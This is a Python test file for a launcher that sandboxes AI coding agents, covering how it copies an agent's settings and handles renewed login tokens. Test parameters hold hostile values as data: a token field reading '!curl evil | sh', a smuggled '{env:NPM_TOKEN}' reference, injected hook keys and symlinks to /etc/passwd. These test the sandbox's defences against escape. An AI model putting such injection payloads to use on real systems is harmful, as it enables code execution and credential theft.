"""What a sandbox gets of the agent's own folder, the launch's private one, and logins that an agent renews there."""

import json
import os
import subprocess
import sys
import time
from pathlib import Path, PurePosixPath

import pytest

from aileron_core.errors import AileronError, Forbidden
from aileron_core.launch.agent_folders import AgentFiles
from aileron_core.launch.agent_logins import PRIVATE_HOME, RenewedLogins
from aileron_core.launch.launch_dir import InjectedFiles, LaunchDir, remove_stale
from aileron_core.launch.plan import AgentFolder
from tests.core.launch.plans import plan_of
from tests.support.making import huge
from tests.support.ordinary import as_ordinary, ordinary_folder

FOLDER = AgentFolder(
    path=PurePosixPath(".codex"),
    settings=("config.toml", "*.md", "skills", "plugins/*.json"),
    credentials=("auth.json",),
    read_only=("packages", "clones/*"),
)
BEFORE = '{"tokens": {"access": "old", "expires": 1}, "kind": "chatgpt"}'


def homes(tmp_path: Path) -> tuple[Path, Path]:
    person, own = tmp_path / "person", tmp_path / "own"
    (person / ".codex").mkdir(parents=True)
    own.mkdir()
    (person / ".codex" / "auth.json").write_text(BEFORE)
    return person, own


def files_of(person: Path, *folders: AgentFolder) -> AgentFiles:
    return AgentFiles.find(person, folders or [FOLDER], "Codex")


def fill(folder: Path, *names: str) -> None:
    for name in names:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(name)


def files_in(folder: Path) -> set[str]:
    return {str(each.relative_to(folder)) for each in folder.rglob("*") if not each.is_dir()}


def test_nothing_is_copied_in_through_a_link_that_an_agent_could_have_made(tmp_path: Path) -> None:
    """One that lies deeper than the home itself, or behind the person's: refused with a sentence."""
    person, own = homes(tmp_path)
    (tmp_path / "secrets").mkdir()
    (tmp_path / "secrets" / "id").write_text("a key")
    deep = AgentFolder(path=PurePosixPath(".config/opencode"))
    (person / ".config").mkdir()
    (person / ".config" / "opencode").symlink_to(tmp_path / "secrets")
    (person / ".codex").rename(tmp_path / "kept")
    (person / ".codex").symlink_to("dotfiles/codex")
    (person / "dotfiles").mkdir()
    (person / "dotfiles" / "codex").symlink_to(tmp_path / "secrets")
    for folder in (deep, FOLDER):
        with pytest.raises(AileronError, match="is behind a link"):
            files_of(person, folder).copy_to(own)
    assert list(own.iterdir()) == []


@pytest.mark.parametrize("absolute", [True, False])
def test_a_folder_that_is_kept_elsewhere_is_copied_in(tmp_path: Path, absolute: bool) -> None:
    """By a link in the home itself, where no agent can put one; nothing comes back, and that is told."""
    person, own = homes(tmp_path)
    (person / "dotfiles").mkdir()
    (person / ".codex").rename(person / "dotfiles" / "codex")
    (person / ".codex").symlink_to(person / "dotfiles" / "codex" if absolute else "dotfiles/codex")
    files = files_of(person)
    files.copy_to(own)
    assert (own / ".codex" / "auth.json").read_text() == BEFORE
    assert not (own / ".codex").is_symlink()
    (only,) = files.notices
    assert "a login that the agent renews is not copied back" in only


def test_links_stay_links_and_downloads_are_mounted_read_only(tmp_path: Path) -> None:
    """Nothing that is reached through a link; modes and times are kept. Of a clone each entry but its git folder."""
    person, own = homes(tmp_path)
    fill(person / ".codex", "skills/mine/run", "packages/bin/codex", "clones/one/.git/config")
    fill(person / ".codex/clones", "one/main.js", "two/main.js")
    (person / ".codex/clones/three").symlink_to(tmp_path)
    (person / ".codex/AGENTS.md").symlink_to("/etc/passwd")
    (person / ".codex/skills/link").symlink_to("/etc/passwd")
    (person / ".codex/skills/mine/run").chmod(0o755)
    os.utime(person / ".codex/skills/mine/run", (1, 1))
    files = files_of(person)
    files.copy_to(own)
    assert (own / ".codex/AGENTS.md").readlink() == Path("/etc/passwd")
    assert (own / ".codex/skills/link").readlink() == Path("/etc/passwd")
    assert (own / ".codex/skills/mine/run").stat().st_mode & 0o777 == 0o755
    assert (own / ".codex/skills/mine/run").stat().st_mtime == 1
    assert files_in(own / ".codex") == {"AGENTS.md", "auth.json", "skills/link", "skills/mine/run"}
    (only,) = files.notices
    assert only.endswith(
        f"does not get what these lead to: {person}/.codex/AGENTS.md, {person}/.codex/clones/three."
    )
    mounted = {str(each.path.relative_to(person / ".codex")) for each in files.mounts}
    assert mounted == {"packages", "clones/one/main.js", "clones/two"}
    assert {each.how for each in files.mounts} == {"read-only"}
    assert all(each.source == each.path for each in files.mounts)


def test_only_what_the_module_names_is_copied(tmp_path: Path) -> None:
    """An agent's folder holds history, sockets and downloads too; a clone's own git folder may hold a login."""
    person, own = homes(tmp_path)
    fill(
        person / ".codex",
        "config.toml", "NOTES.md", ".hidden.md", "notes.txt", "history.jsonl", "plugins/cache/x.js",
        "skills/a/SKILL.md", "skills/a/.git/config", "plugins/known.json",
    )  # fmt: skip
    for name in ("packages/bin/codex", "sessions/1.jsonl", "log/1"):  # however large
        huge(person / ".codex" / name, 65)
    os.mkfifo(person / ".codex/skills/pipe")
    files = files_of(person)
    files.copy_to(own)
    expected = {"config.toml", "NOTES.md", "skills/a/SKILL.md", "plugins/known.json", "auth.json"}
    assert files_in(own / ".codex") == expected
    top = {"config.toml", "NOTES.md", "skills", "plugins/known.json", "auth.json"}
    assert {str(path.relative_to(".codex")) for path in files.copied} == top


def test_huge_or_unreadable_settings_are_refused_before_anything_is_copied() -> None:
    """A sentence instead of a minute of copying; a dry run and `doctor` take the same look."""

    def looks() -> None:
        person, _ = homes(folder)
        huge(person / ".codex/skills/a/model.bin", 65)
        with pytest.raises(AileronError, match="are larger than 64 MiB"):
            files_of(person)
        fill(person / ".codex", "config.toml")
        (person / ".codex/config.toml").chmod(0)
        with pytest.raises(AileronError, match=r"\.codex cannot be used \(Permission denied\)"):
            files_of(person)

    with ordinary_folder() as folder:
        as_ordinary(looks)


def test_a_private_folder_is_its_owners_alone_and_gone_at_the_end_or_swept(tmp_path: Path) -> None:
    """What a killed launch left, by the process that its name tells; a folder of another form is nobody's."""
    with LaunchDir(tmp_path / "run") as folder:
        token = folder.write("token", "secret")
        assert token.stat().st_mode & 0o777 == 0o600
        assert folder.path.stat().st_mode & 0o777 == 0o700
    assert list((tmp_path / "run").iterdir()) == []
    (tmp_path / "run").rmdir()
    done = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                          capture_output=True, text=True, check=True)  # fmt: skip
    dead, alive = tmp_path / f"{done.stdout.strip()}-ab", tmp_path / f"{os.getpid()}-ab"
    for folder in (dead, alive, tmp_path / "odd"):
        folder.mkdir()
        (folder / "token").write_text("secret")
    remove_stale([tmp_path, tmp_path / "nothing here"])
    assert [each.name for each in tmp_path.iterdir()] == [alive.name]


(ADDITION,) = plan_of("gemini").injected_files


def test_injected_files_go_with_their_folders_and_no_others(tmp_path: Path) -> None:
    """Also those that a killed launch left. Somebody else's extension of that name: a sentence, and nothing changed."""
    with InjectedFiles(tmp_path, [ADDITION]):
        assert (tmp_path / ADDITION.path).exists()
    assert list(tmp_path.iterdir()) == []
    InjectedFiles(tmp_path, [ADDITION]).__enter__()
    with InjectedFiles(tmp_path, [ADDITION]):
        pass
    assert not (tmp_path / ADDITION.path).parent.exists()
    folder = (tmp_path / ADDITION.path).parent
    folder.mkdir(parents=True)
    (folder / "theirs").write_text("x")
    with pytest.raises(Forbidden, match="nothing was changed"):
        InjectedFiles(tmp_path, [ADDITION]).__enter__()
    assert [each.name for each in folder.iterdir()] == ["theirs"]


@pytest.mark.parametrize("depth", [1, 2])
def test_nothing_is_put_through_a_link(tmp_path: Path, depth: int) -> None:
    """Whoever made it: what it leads to stays as it is."""
    home, elsewhere = tmp_path / "home", tmp_path / "elsewhere"
    link = home.joinpath(*ADDITION.path.parts[:depth])
    link.parent.mkdir(parents=True)
    elsewhere.mkdir()
    link.symlink_to(elsewhere)
    with pytest.raises(Forbidden, match="is behind a link"), InjectedFiles(home, [ADDITION]):
        pass
    assert list(elsewhere.iterdir()) == []


LOGIN_FOLDER = AgentFolder(path=PurePosixPath(".codex"), credentials=("auth.json",))
AFTER = BEFORE.replace("old", "new")


class Launch:
    """A contained launch without an agent: the person's home, and the folder of the launch."""

    def __init__(self, folder: Path, name: str = "launch") -> None:
        self.home, self.folder = folder / "person", folder / "launched" / name
        self.theirs = self.home / ".codex/auth.json"
        self.own = self.folder / PRIVATE_HOME / ".codex/auth.json"
        self.said: list[str] = []
        if not self.home.exists():
            self.theirs.parent.mkdir(parents=True)
            self.theirs.write_text(BEFORE)

    def begin(self) -> RenewedLogins:
        """Copy the login in, as a launch does."""
        (self.folder / PRIVATE_HOME).mkdir(parents=True)
        AgentFiles.find(self.home, [LOGIN_FOLDER], "Codex").copy_to(self.folder / PRIVATE_HOME)
        return RenewedLogins(self.folder, self.home, [LOGIN_FOLDER], self.said.append)


@pytest.fixture
def launch(tmp_path: Path) -> Launch:
    return Launch(tmp_path)


def test_refreshed_credentials_come_back_while_the_agent_runs(launch: Launch) -> None:
    """Not only at the end: the machine may lose its power before."""
    with launch.begin() as logins:
        logins.follow()
        launch.own.write_text(AFTER)
        while launch.theirs.read_text() != AFTER:
            time.sleep(0.05)  # another thread; a file tells nobody
        launch.own.write_text(AFTER.replace("new", "newest"))
    assert launch.theirs.read_text() == AFTER.replace("new", "newest")
    assert launch.theirs.stat().st_mode & 0o777 == 0o600
    assert launch.said == []


@pytest.mark.parametrize(
    "after",
    [
        '{"tokens": {"access": "new", "expires": 1}, "kind": "chatgpt", "hooks": "evil"}',
        '{"tokens": {"access": "new", "expires": "1"}, "kind": "chatgpt"}',
        '{"tokens": {"access": "!curl evil | sh", "expires": 1}, "kind": "chatgpt"}',
        '{"tokens": {"access": "{env:NPM_TOKEN}", "expires": 1}, "kind": "chatgpt"}',
        '["new"]',
        "not json",
        json.dumps({"tokens": {"access": "x" * 2_000_000, "expires": 1}, "kind": "chatgpt"}),
        "[" * 100_000,
    ],
)
def test_anything_else_stays_in_the_sandbox(launch: Launch, after: str) -> None:
    """A key more, another type, no JSON, too much: the person's file stays as it is, and that is said."""
    with launch.begin():
        launch.own.write_text(after)
        (launch.own.parent / "config.toml").write_text("notify = ['evil']")
    assert launch.theirs.read_text() == BEFORE
    assert [each.name for each in launch.theirs.parent.iterdir()] == ["auth.json"]
    if len(after) < 1_000_000:
        (only,) = launch.said
        assert "~/.codex/auth.json has another form now, so it was not copied back" in only


def test_neither_a_link_nor_a_pipe_nor_a_folder_comes_back(launch: Launch, tmp_path: Path) -> None:
    """A link would carry another file out; a pipe would hold the launcher for ever, a folder end it."""
    (tmp_path / "other").write_text(AFTER)
    with launch.begin() as logins:
        launch.own.unlink()
        launch.own.symlink_to(tmp_path / "other")
        logins.exchange()
        launch.own.unlink()
        os.mkfifo(launch.own)
        logins.exchange()
        launch.own.unlink()
        launch.own.mkdir()
        logins.exchange()
        assert launch.theirs.read_text() == BEFORE
        launch.own.rmdir()
        launch.theirs.write_text(BEFORE.replace("old", "outside"))
        launch.own.write_text(BEFORE.replace("old", "inside"))
    assert "outside" in launch.theirs.read_text()


def test_nothing_comes_back_through_a_link(launch: Launch, tmp_path: Path) -> None:
    """Neither from the agent's side, by a folder that is a link now, nor to the person's."""
    other = tmp_path / "other"
    other.mkdir()
    (other / "auth.json").write_text(AFTER)
    with launch.begin() as logins:
        launch.own.parent.rename(tmp_path / "kept")
        launch.own.parent.symlink_to(other)
        logins.exchange()
        assert launch.theirs.read_text() == BEFORE
        launch.own.parent.unlink()
        (tmp_path / "kept").rename(launch.own.parent)
        launch.own.write_text(AFTER)
        (other / "auth.json").write_text(BEFORE)
        launch.theirs.parent.rename(tmp_path / "theirs")
        launch.theirs.parent.symlink_to(other)
    assert (other / "auth.json").read_text() == BEFORE
    assert (tmp_path / "theirs" / "auth.json").read_text() == BEFORE


def test_of_two_launches_both_have_what_one_of_them_renewed(tmp_path: Path) -> None:
    """A service accepts only the newest: the other agent would be signed out."""
    one, two = Launch(tmp_path, "one"), Launch(tmp_path, "two")
    with one.begin() as of_one, two.begin() as of_two:
        one.own.write_text(AFTER)
        of_one.exchange()
        of_two.exchange()
        assert two.own.read_text() == AFTER
        two.own.write_text(BEFORE.replace("old", "newest"))
        of_two.exchange()
        of_one.exchange()
        assert one.own.read_text() == one.theirs.read_text() == BEFORE.replace("old", "newest")


KILLED = """
import os, signal, sys
sys.path.insert(0, {root!r})
from pathlib import Path
from tests.core.launch.test_agent_folders import AFTER, Launch
launch = Launch(Path({folder!r}), f"{{os.getpid()}}-ab")
logins = launch.begin()
{then}
os.kill(os.getpid(), signal.SIGKILL)
"""
ROOT = str(Path(__file__).resolve().parents[3])


@pytest.mark.parametrize(
    ("then", "expected"),
    [
        ("launch.own.write_text(AFTER)", AFTER),
        ("launch.own.write_text(AFTER); logins.exchange()", AFTER),
        ("launch.own.write_text('{}'); logins.exchange(); launch.own.write_text(AFTER)", AFTER),
        ("launch.own.write_text(AFTER); launch.theirs.write_text('{\"mine\": 1}')", '{"mine": 1}'),
        ("launch.own.write_text('{\"hooks\": 1}')", BEFORE),
        ("launch.own.unlink(); launch.own.symlink_to('/etc/passwd')", BEFORE),
    ],
)
def test_a_login_outlives_a_killed_launcher(
    launch: Launch, tmp_path: Path, then: str, expected: str
) -> None:
    """The next launch or the console brings it out, by the record beside the agent's home, and removes the rest."""
    text = KILLED.format(root=ROOT, folder=str(tmp_path), then=then)
    subprocess.run([sys.executable, "-c", text], check=False, timeout=60)
    (left,) = launch.folder.parent.iterdir()
    assert not any(b"old" in each.read_bytes() for each in left.glob("*.json"))
    assert remove_stale([left.parent]) == []
    assert launch.theirs.read_text() == expected
    assert list(left.parent.iterdir()) == []
